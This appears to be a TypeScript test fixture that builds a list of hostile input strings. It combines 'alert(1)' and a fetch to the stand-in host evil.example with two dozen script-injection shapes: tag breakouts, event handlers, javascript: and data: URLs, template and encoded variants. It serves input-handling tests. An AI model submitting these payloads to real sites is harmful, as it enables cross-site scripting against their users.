import { hostileHtml } from './hostile-html.ts'

const carriers = ['alert(1)', 'fetch(`//evil.example`)']

/** Text that tries to break out of its place: an attribute, a title, a script, JSON, a URL, a template. */
const shapes: readonly ((code: string) => string)[] = [
  (code) => `"><script>${code}</script>`,
  (code) => `'><script>${code}</script>`,
  (code) => `" onfocus="${code}" autofocus="`,
  (code) => `' onmouseover='${code}' x='`,
  (code) => `\` onload=\`${code}`,
  (code) => `"-${code}-"`,
  (code) => `'-${code}-'`,
  (code) => `\\"-${code}//`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</textarea><img src=x onerror=${code}>`,
  (code) => `</script><svg onload=${code}>`,
  (code) => `<!--<script>${code}//-->`,
  (code) => `"}]</script><script>${code}</script>`,
  (code) => `\u2028${code}\u2029`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `//evil.example/?${code}`,
  (code) => `\${${code}}`,
  (code) => `{{${code}}}`,
  (code) => `<%= ${code} %>`,
  (code) => `]]><script>${code}</script>`,
  (code) => `%22%3E%3Cscript%3E${code}%3C/script%3E`,
  (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  (code) => `<svg/onload=${code}//`,
]

/**
 * At least two hundred texts, including the hostile HTML, for a name, a search or a description. PostgreSQL stores no
 * NUL, so none contains one.
 */
export const hostileTexts: readonly string[] = [
  ...hostileHtml,
  ...carriers.flatMap((code) => shapes.map((shape) => shape(code))),
].map((text) => text.replaceAll('\u0000', ''))
